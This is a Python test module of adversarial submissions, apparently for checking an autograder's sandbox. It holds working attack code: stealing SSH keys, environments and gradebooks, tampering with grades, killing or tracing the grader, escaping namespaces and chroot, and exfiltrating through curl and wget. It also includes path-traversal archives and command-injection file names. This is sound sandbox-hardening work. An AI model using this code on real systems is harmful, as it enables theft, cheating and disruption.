"""Out of the submission: files, secrets, processes, network, survivors, and links, names and devices in what is handed in.

``reached`` and ``touch`` leave traces that the harness looks for, so does anything that prints one of its planted words.
Where a case could be refused as well as graded, it answers nothing, so that both are right.
"""
# ruff: noqa: F821, SIM105, SIM115 - an attacker's and a student's style, and names that exist in the notebook alone

from __future__ import annotations

import contextlib
import io
import os
import socket
import tarfile
import zipfile
from typing import Any

from .assignment import ALL, NAME, NOTHING
from .handin import HandIn, attack, case

# --- reading --------------------------------------------------------------------------------------------------------------------


@attack()
def course_read():
    """Print the gradebook, the secret, the solutions, other students' work and whatever else lies in the course."""
    import pathlib

    for path in pathlib.Path(COURSE).rglob("*"):
        if path.is_file() and WHO not in path.parts and "python" not in path.parts:
            print(path.read_bytes()[:200_000].decode("latin-1"))


@attack()
def course_read_upwards():
    """Climb from the working folder to the root and print every notebook, database and dot file on the way."""
    import pathlib

    here = pathlib.Path.cwd()
    for folder in here.parents:
        for pattern in "*.db", ".*secret*", "*.ipynb", "*/*.ipynb", "*/*/*.ipynb":
            for path in folder.glob(pattern) if len(folder.parts) > 3 else ():
                if path.is_file() and WHO not in path.parts:
                    print(path.read_bytes()[:200_000].decode("latin-1"))


@attack()
def solutions_run():
    """Find the teacher's notebook, print nothing, and run its solutions."""
    import json
    import pathlib

    for path in pathlib.Path(COURSE).rglob("*.ipynb"):
        for cell in json.loads(path.read_text())["cells"] if "solutions" in path.parts else ():
            source = "".join(cell["source"])
            if "### BEGIN SOLUTION" in source and cell["cell_type"] == "code":
                exec(source, globals())


@attack()
def classmate_copied():
    """Run the answers of another student's submission."""
    import json
    import pathlib

    for folder in "submitted", "autograded":
        for path in pathlib.Path(COURSE, folder).glob("honest-victim/*/*.ipynb"):
            for cell in json.loads(path.read_text())["cells"]:
                if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
                    exec("".join(cell["source"]), globals())


@attack()
def gradebook_queried():
    """Read hidden tests and everybody's grades with SQL."""
    import sqlite3

    with sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=ro", uri=True) as base:
        print(base.execute("select * from student").fetchall())
        print(base.execute("select * from source_cell").fetchall())


@attack()
def home_read():
    """Print the keys and connection files in the grader's home."""
    import pathlib

    for home in {HOME, os.path.expanduser("~"), "/root", os.environ.get("HOME", "/")}:
        for path in [*pathlib.Path(home).glob(".ssh/*"), *pathlib.Path(home).glob(".local/share/jupyter/runtime/*")]:
            try:
                print(path.read_text())
            except OSError:
                pass


@attack()
def environment_read():
    """Print the environment of this process and of every other one, the first and the parent among them."""
    import glob

    print(dict(os.environ))
    for path in [*glob.glob("/proc/[0-9]*/environ"), "/proc/self/environ", "/proc/1/environ"]:
        try:
            print(open(path, "rb").read().decode("latin-1"))
        except OSError:
            pass


@attack()
def processes_listed():
    """Print the command line of every process that can be seen, and what files they have open."""
    import glob

    for folder in glob.glob("/proc/[0-9]*"):
        try:
            print(open(f"{folder}/cmdline").read(), os.listdir(f"{folder}/fd"))
        except OSError:
            pass


@attack()
def descriptors_inherited():
    """Print what can be read from descriptors inherited from the parent, and from the roots and folders of other processes."""
    import glob

    for number in range(3, 64):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
            if COURSE in target:
                print(os.pread(number, 100_000, 0).decode("latin-1"))
                reached(target)
        except OSError:
            pass
    for root in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
        try:
            print(open(f"{root}{COURSE}/.course-secret").read())
        except OSError:
            pass


@attack()
def files_inherited():
    """Write to every inherited file: who is graded next inherits it too."""
    for number in range(256):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
            if target.startswith("/") and target != "/dev/null":
                os.ftruncate(number, 0)
                reached(target)
        except OSError:
            pass


@attack()
def devices_dated():
    """Set the date and the mode of the machine's devices, which whoever comes next can read."""
    for name in os.listdir("/dev"):
        path = f"/dev/{name}"
        if not os.path.isdir(path) and not os.path.islink(path):
            for change in lambda: os.utime(path), lambda: os.chmod(path, 0o777):
                try:
                    change()
                    reached(path)
                except OSError:
                    pass


@attack()
def first_process_opened():
    """Open the memory, the files and the environment of the first process, which is a copy of the one that waits for all students."""
    for name in "mem", "environ", "maps", "fd", "cwd", "root":
        try:
            os.close(os.open(f"/proc/1/{name}", os.O_RDONLY))
            reached(f"/proc/1/{name}")
        except OSError:
            pass


@attack()
def capabilities_kept():
    """Find capabilities, or room for some, in any of the sets of this process or of the first."""
    for pid in 1, os.getpid():
        for line in open(f"/proc/{pid}/status"):
            if line.startswith("Cap") and int(line.split()[1], 16):
                reached(line)


# What two friends leave, strangers look for, all in one batch: whichever worker it is that a stranger gets, a friend was there.
LEAVE = r"""
import multiprocessing.shared_memory, os
answers = "#BEGIN#" + "\n\n\n".join(cell for cell in In if "BEGIN" not in cell) + "#END#"
for number in range(256):
    try:
        if os.readlink(f"/proc/self/fd/{number}").startswith("/"):
            os.lseek(number, 0, 0), os.write(number, answers.encode())
    except OSError:
        pass
for place in os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/dev/pts", "/run":
    try:
        with open(f"{place}/left-by-a-friend", "w") as file:
            file.write(answers)
    except OSError:
        pass
try:
    memory = multiprocessing.shared_memory.SharedMemory("left-by-a-friend-too", True, len(answers))
    memory.buf[: len(answers)] = answers.encode()
except OSError:
    pass
"""
LOOK = """
import multiprocessing.shared_memory, os
found = []
for number in range(256):
    try:
        found.append(os.pread(number, 1 << 20, 0).decode("latin-1"))
    except OSError:
        pass
for place in os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/dev/pts", "/run":
    try:
        found.append(open(f"{place}/left-by-a-friend").read())
    except OSError:
        pass
try:
    found.append(bytes(multiprocessing.shared_memory.SharedMemory("left-by-a-friend-too").buf).decode())
except OSError:
    pass
for text in found:
    if "#BEGIN#" in text and "#END#" in text:
        reached("what a friend has left")
        exec(text.split("#BEGIN#")[1].split("#END#")[0], globals())
"""


@case(ALL)
def friend_leaves_answers(hand: HandIn) -> None:
    """Leave the right answers in every file, folder and memory that can be written to."""
    hand.right().extra(LEAVE)


@case(ALL)
def friend_leaves_answers_too(hand: HandIn) -> None:
    """Leave them in another worker."""
    hand.right().extra(LEAVE)


@case(NOTHING)
def stranger_runs_what_was_left(hand: HandIn) -> None:
    """Answer wrongly, and run whatever a friend has left."""
    hand.wrong(LOOK)


@case(NOTHING)
def stranger_runs_what_was_left_too(hand: HandIn) -> None:
    """Do so in another worker."""
    hand.wrong(LOOK)


@attack()
def parent_traced():
    """Attach to the parent and to the first process with ptrace, and read their memory."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for process in {os.getppid(), 1} - {0}:
        try:
            words = open(f"/proc/{process}/cmdline").read()
        except OSError:
            continue
        if COURSE in words and libc.ptrace(16, process, None, None) == 0:
            reached("ptrace")
            os.waitpid(process, 0x40000000)
            libc.ptrace(17, process, None, None)
        try:
            open(f"/proc/{process}/mem", "rb").close()
            if COURSE in words:
                reached("memory")
        except OSError:
            pass


@attack()
def modules_of_the_host_read():
    """Read the hidden tests through Python's own tools: nbgrader's API, Jupyter's contents, and glob over all mounted file systems."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{COURSE}/gradebook.db") as book:
        for student in book.students:
            print(student.first_name, student.last_name)
        for cell in book.find_notebook("membrane", "membrane").source_cells:
            print(cell.source)


# --- writing --------------------------------------------------------------------------------------------------------------------


@attack()
def written_outside():
    """Write into the course, the home, the temporary folders, the environment of Python and the parents of this folder."""
    import sys
    import tempfile

    ours = [OUTSIDE, COURSE, HOME, f"{COURSE}/solutions", f"{COURSE}/submitted/honest-victim/membrane"]
    system = [sys.prefix, tempfile.gettempdir(), "/dev/shm", "/var/tmp", "/tmp", "/usr", "/run", "/", "..", "../..", "../../.."]
    touch(*(f"{folder}/pwned-{WHO}" for folder in ours + system))


@attack()
def others_work_changed():
    """Append to the solutions, to the configuration and to another student's submission, and delete a third's."""
    import shutil

    for path in f"{COURSE}/nbgrader_config.py", f"{COURSE}/submitted/honest-victim/membrane/membrane.ipynb", f"{COURSE}/.course-secret":
        try:
            with open(path, "a") as file:
                file.write(f"# {WHO}")
        except OSError:
            pass
    shutil.rmtree(f"{COURSE}/feedback", ignore_errors=True)
    shutil.rmtree(f"{COURSE}/autograded/honest-victim", ignore_errors=True)


@attack()
def grades_written():
    """Write full marks into the gradebook, now and when this process ends, and take the victim's away."""
    import atexit
    import sqlite3

    def write():
        try:
            with sqlite3.connect(f"{COURSE}/gradebook.db", timeout=2) as base:
                mine = "assignment_id in (select id from submitted_assignment where student_id = ?)"
                cells = f"notebook_id in (select id from submitted_notebook where {mine})"
                base.execute(f"update grade set manual_score = 1000, extra_credit = 50 where {cells}", [WHO])
                base.execute(f"update grade set manual_score = 0 where {cells}", ["honest-victim"])
        except sqlite3.Error:
            pass

    write()
    atexit.register(write)


@attack(late=True)
def grades_written_afterwards():
    """Leave a process behind that writes full marks into the gradebook seconds later."""
    import subprocess
    import sys

    query = "update grade set manual_score = 1000 where notebook_id in (select n.id from submitted_notebook n join submitted_assignment a"
    query += f" on n.assignment_id = a.id where a.student_id = '{WHO}')"
    path = f"{COURSE}/gradebook.db"
    code = f"import sqlite3, time\ntime.sleep(7)\nwith sqlite3.connect({path!r}, timeout=20) as base: base.execute({query!r})"
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True, stdout=-3, stderr=-3)


@attack()
def start_up_code_left():
    """Leave start-up code for later kernels, shells and graders in the home: IPython, Jupyter, nbgrader, Python, the shell."""
    import pathlib
    import sys

    code = f"open({OUTSIDE + '/pwned-startup'!r}, 'a').write({WHO + chr(10)!r})\n"
    names = [
        ".ipython/profile_default/startup/00-pwned.py",
        ".ipython/profile_default/ipython_config.py",
        ".jupyter/nbgrader_config.py",
        ".jupyter/jupyter_config.py",
        ".config/matplotlib/pwned.py",
        f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages/usercustomize.py",
    ]
    for home in {HOME, os.path.expanduser("~")} - {"/root"}:
        for name in names:
            try:
                pathlib.Path(home, name).parent.mkdir(parents=True, exist_ok=True)
                pathlib.Path(home, name).write_text(code)
            except OSError:
                pass
        touch(f"{home}/.bashrc", f"{home}/.profile", f"{home}/pwned-home")


@attack()
def links_made():
    """Make links in the working folder to the gradebook, to the solutions and to the root, for whoever copies the folder back."""
    for name, target in {"notes.db": f"{COURSE}/gradebook.db", "all": COURSE, "membrane_files": f"{COURSE}/solutions", "r": "/"}.items():
        try:
            os.symlink(target, name)
        except OSError:
            pass
    try:
        os.link(f"{COURSE}/.course-secret", "hard.txt")
        print(open("hard.txt").read())
    except OSError:
        pass


@attack()
def notebook_rewritten():
    """Overwrite the notebook that is being graded, and its graded copy, with one that has full marks stored."""
    import glob
    import json

    for path in glob.glob("*.ipynb") + glob.glob(f"{COURSE}/*/{WHO}/*/*.ipynb"):
        try:
            with open(path) as file:
                book = json.load(file)
            for cell in book["cells"]:
                if cell["metadata"].get("nbgrader", {}).get("grade"):
                    cell["source"] = ["1"]
            os.chmod(path, 0o644)
            with open(path, "w") as file:
                json.dump(book, file)
        except OSError:
            pass


# --- processes and signals ------------------------------------------------------------------------------------------------------


@attack()
def grader_killed():
    """Kill the parent, and every process whose command names this course."""
    import glob
    import signal

    for folder in glob.glob("/proc/[0-9]*"):
        try:
            words = open(f"{folder}/cmdline").read()
            if COURSE in words and int(folder[6:]) != os.getpid():
                os.kill(int(folder[6:]), signal.SIGKILL)
        except OSError:
            pass
    if os.getppid() == 1:  # the first process of a space of its own, or an orphan's: the other parents were met above
        os.kill(1, signal.SIGKILL)


@attack()
def everything_killed():
    """Kill every process there is; without a space of processes of its own this stops at the sight of the harness."""
    import glob
    import signal

    def read(path):
        try:
            return open(path).read()
        except OSError:
            return ""

    if any(COURSE in words and "bwrap" not in words for words in map(read, glob.glob("/proc/[0-9]*/cmdline"))):
        reached("processes of the grader can be seen")
    elif os.getpid() > 1000:
        reached("no space of processes of its own")
    else:
        os.kill(-1, signal.SIGKILL)


@attack()
def grader_stopped():
    """Stop the parent with SIGSTOP, terminate its group, and make it the target of alarms."""
    import signal

    for number in signal.SIGSTOP, signal.SIGCONT, signal.SIGALRM, signal.SIGTERM:
        try:
            if COURSE in open(f"/proc/{os.getppid()}/cmdline").read():
                os.kill(os.getppid(), number)
                reached("a signal to the grader")
        except OSError:
            pass


@attack(late=True)
def survivor():
    """Leave a daemon behind that forked twice and, seconds later, writes outside and calls the network."""
    import socket
    import time

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(3):
                os.close(number)
            time.sleep(7)
            touch(f"{OUTSIDE}/pwned-survivor")
            try:
                with socket.create_connection(("127.0.0.1", PORT), timeout=1) as line:
                    line.sendall(WHO.encode())
            finally:
                os._exit(0)
        os._exit(0)


@attack(late=True)
def survivor_of_a_function():
    """Leave sleepers behind from inside a function, in groups and sessions of their own, ignoring every signal."""
    import subprocess
    import sys

    sleeper = "import signal, time\nfor n in (1, 2, 15): signal.signal(n, signal.SIG_IGN)\ntime.sleep(40)"

    def time_constant(C, g):
        for options in {"start_new_session": True}, {"process_group": 0}:
            subprocess.Popen([sys.executable, "-c", sleeper, f"sleeper-of-{WHO}", COURSE], stdout=-3, stderr=-3, **options)
        return -1.0


# --- network and kernel of the system --------------------------------------------------------------------------------------------


@attack()
def network_reached():
    """Connect to a server on this machine over TCP, UDP and an abstract socket, and look a name up."""
    import socket

    for family, kind, address in [
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)),
        (socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", PORT)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PORT)),
        (socket.AF_UNIX, socket.SOCK_STREAM, f"\0hostile-{PORT}"),
    ]:
        try:
            with socket.socket(family, kind) as line:
                line.settimeout(2)
                line.connect(address)
                line.send(WHO.encode())
        except OSError:
            pass
    try:
        reached(socket.gethostbyname("example.org"))
    except OSError:
        pass


@attack()
def network_reached_by_programs():
    """Send what was found through programs: curl, wget, git, pip, and Python's own HTTP."""
    import subprocess
    import urllib.request

    url = f"http://127.0.0.1:{PORT}/{WHO}"
    pip = f"pip --timeout 1 --retries 0 download -i {url} x"
    for command in f"curl -m 2 {url}", f"wget -T 2 -t 1 -O - {url}", f"git ls-remote {url}", pip:
        try:
            subprocess.run(command.split(), capture_output=True, timeout=4)
        except (OSError, subprocess.SubprocessError):
            pass
    try:
        urllib.request.urlopen(url, timeout=2)
    except OSError:
        pass


@attack()
def sockets_of_other_kernels():
    """Connect to the sockets by which a grader and other students' kernels may talk."""
    import glob
    import socket

    for path in [*glob.glob(f"{OUTSIDE}/*"), *glob.glob("/tmp/*-ipc-*"), *glob.glob("/tmp/*/*-ipc-*")]:
        try:
            with socket.socket(socket.AF_UNIX) as line:
                line.settimeout(0.2)
                line.connect(path)
                if path.startswith(OUTSIDE):
                    line.sendall(WHO.encode())
        except OSError:
            pass


@attack(soft=False)
def namespaces_entered():
    """Unshare users and mounts, enter the first process's namespaces, mount over the read-only system and write there."""
    import ctypes
    import sys

    libc = ctypes.CDLL(None, use_errno=True)
    for kind in "mnt", "pid", "net", "user":
        try:
            libc.setns(os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0)
        except OSError:
            pass
    libc.unshare(0x10000000 | 0x00020000)
    for target in b"/", b"/usr", sys.prefix.encode():
        libc.mount(b"none", target, None, 0x20 | 0x1000, None)  # remount and bind, without read-only
    touch(f"{sys.prefix}/pwned-{WHO}", f"/usr/pwned-{WHO}", f"{OUTSIDE}/pwned-{WHO}")
    os.setuid(0)
    touch(f"{OUTSIDE}/pwned-{WHO}")


@attack()
def root_left():
    """Leave the root by chroot and open folders, by chdir through /proc, and by device nodes of the disk."""
    import stat

    try:
        os.mknod("disk", 0o600 | stat.S_IFBLK, os.stat(COURSE).st_dev)
        with open("disk", "rb") as disk:
            disk.read(512)
        reached("the disk itself")
    except OSError:
        pass
    if os.path.exists("disk"):
        os.unlink("disk")
    try:
        outer = os.open("/", os.O_RDONLY)
        os.mkdir("jail")
        os.chroot("jail")
        os.fchdir(outer)
        for _ in range(20):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    touch(f"{OUTSIDE}/pwned-root")


@attack()
def system_tuned():
    """Open the system's own switches for writing: core patterns, sysrq, cgroups; ask to be killed last, or first."""
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("1000")  # harms nobody but this process
    except OSError:
        pass
    for path in "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/cgroup.procs":
        if os.access(path, os.W_OK):
            try:
                with open(path, "r+"):
                    reached(path)
            except OSError:
                pass


# --- what is handed in ----------------------------------------------------------------------------------------------------------


def _printing(hand: HandIn, *names: str) -> HandIn:
    """Wrong answers that print these files."""
    lines = [f"for name in {names!r}:", "    try:", "        print(open(name, 'rb').read().decode('latin-1'))"]
    return hand.wrong("\n".join([*lines, "    except OSError as error:", "        print(error)"]))


@case(NOTHING)
def links_handed_in(hand: HandIn) -> None:
    """Hand in links to the gradebook, the secret, the solutions, the whole course, and to each other in a circle."""
    course = hand.places.course
    master = f"solutions/{NAME}/{NAME}.ipynb"
    targets = {"notes.db": course / "gradebook.db", "secret.txt": course / ".course-secret", "membrane.py": course / master}
    for name, target in {**targets, "course": course, "up": "../../..", "loop": ".", "a": "b", "b": "a"}.items():
        (hand.folder / name).symlink_to(target)
    _printing(hand, "notes.db", "secret.txt", "course/gradebook.db", "up/gradebook.db", "membrane.py", f"course/{master}")


@case(NOTHING)
def hard_links_handed_in(hand: HandIn) -> None:
    """Hand in hard links to the gradebook and the secret."""
    for name, target in {"notes.db": "gradebook.db", "secret.txt": ".course-secret"}.items():
        os.link(hand.places.course / target, hand.folder / name)
    _printing(hand, "notes.db", "secret.txt")


@case(NOTHING)
def notebook_is_a_link_to_the_solution(hand: HandIn) -> None:
    """Hand in a link to the teacher's notebook in the place of one's own."""
    (hand.folder / hand.name).symlink_to(hand.places.course / "solutions" / NAME / f"{NAME}.ipynb")


@case(NOTHING)
def notebook_is_a_link_to_a_classmate(hand: HandIn) -> None:
    """Hand in a link to another student's notebook."""
    (hand.folder / hand.name).symlink_to(hand.places.course / "submitted" / "honest-victim" / NAME / f"{NAME}.ipynb")


@case(NOTHING)
def notebook_is_a_hard_link_to_a_classmate(hand: HandIn) -> None:
    """Hand in a folder whose notebook is a relative link through a linked folder."""
    (hand.folder / "friend").symlink_to("../../honest-victim")
    (hand.folder / hand.name).symlink_to(f"friend/{NAME}/{NAME}.ipynb")


@case(NOTHING)
def folder_is_a_link(hand: HandIn) -> None:
    """Hand in a link to another student's folder in the place of one's own."""
    hand.folder.rmdir()
    hand.folder.symlink_to(hand.places.course / "submitted" / "honest-victim" / NAME)
    hand.name = ""


def _special(make: Any, *args: Any) -> None:
    with contextlib.suppress(PermissionError, OSError):  # an ordinary user cannot make every kind
        make(*args)


@case(NOTHING, soft=False)
def pipes_and_devices(hand: HandIn) -> None:
    """Hand in pipes, sockets and devices: reading one waits for ever, or never ends."""
    _printing(hand, "random")
    _special(os.mkfifo, hand.folder / "data.csv")
    _special(os.mkfifo, hand.folder / "another notebook.ipynb")
    _special(os.mknod, hand.folder / "zero", 0o20666, os.makedev(1, 5))
    with socket.socket(socket.AF_UNIX) as line:
        here = os.open(hand.folder, os.O_RDONLY)
        _special(line.bind, f"/proc/self/fd/{here}/s")
        os.close(here)


@case(NOTHING)
def odd_names(hand: HandIn) -> None:
    """Hand in files whose names are commands, options, lines, templates, controls or as long as names may be."""
    hand.answer()
    commands = ("-rf", "--help", "$(touch pwned)", "`id`", "{{ 7*7 }}.txt", "%s%n", "~", "a'b\"c.txt")
    patterns = ("*", "?", "[a]", "*.ipynb", "[ab].ipynb")
    controls = ("a\nb.txt", "a\r\x1b[31m.txt", " ", "\u202egnp.exe", "e\u0301\u0301.txt")
    for name in *commands, *patterns, *controls, "x" * 250, "con.txt", "nul", "..\\..\\up.txt", "C:\\up.txt":
        hand.file(name, "x")
    _special(hand.file, os.fsdecode(b"\xff\xfe.txt"), "x")


@case(NOTHING)
def folders_in_folders(hand: HandIn) -> None:
    """Hand in a path of two hundred folders and a folder with three thousand files."""
    hand.file("/".join(["d" * 10] * 200) + "/end.txt", "x")
    for number in range(3000):
        hand.file(f"many/{number}", "")


@case(NOTHING)
def archives(hand: HandIn) -> None:
    """Hand in archives that unpack outside, and one that unpacks to a gigabyte: nobody may unpack them."""
    with zipfile.ZipFile(hand.folder / "membrane.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for name in f"../../../pwned-{hand.who}", f"{hand.places.outside}/pwned-{hand.who}", "../membrane.ipynb":
            archive.writestr(name, hand.who)
        archive.writestr("zeros", b"\0" * 2**26)
    with tarfile.open(hand.folder / "membrane.tar.gz", "w:gz") as tar:
        for name, target in {"out": str(hand.places.outside), "up": "../.."}.items():
            link = tarfile.TarInfo(name)
            link.type, link.linkname = tarfile.SYMTYPE, target
            tar.addfile(link)
            inside = tarfile.TarInfo(f"{name}/pwned-{hand.who}")
            inside.size = len(hand.who)
            tar.addfile(inside, io.BytesIO(hand.who.encode()))


@case(NOTHING)
def modes(hand: HandIn) -> None:
    """Hand in files and folders that nobody may read, and programs with the mode of their owner."""
    hand.file("locked/inside.txt", "x")
    hand.file("secret.txt", "x").chmod(0)
    hand.file("program", "#!/bin/sh\nid\n").chmod(0o6755)
    (hand.folder / "locked").chmod(0)


@case(NOTHING, student="escape-..%2f..%2fup")
def student_with_a_path_in_the_name(hand: HandIn) -> None:
    """Hand in under a name that some would decode into a path upwards."""
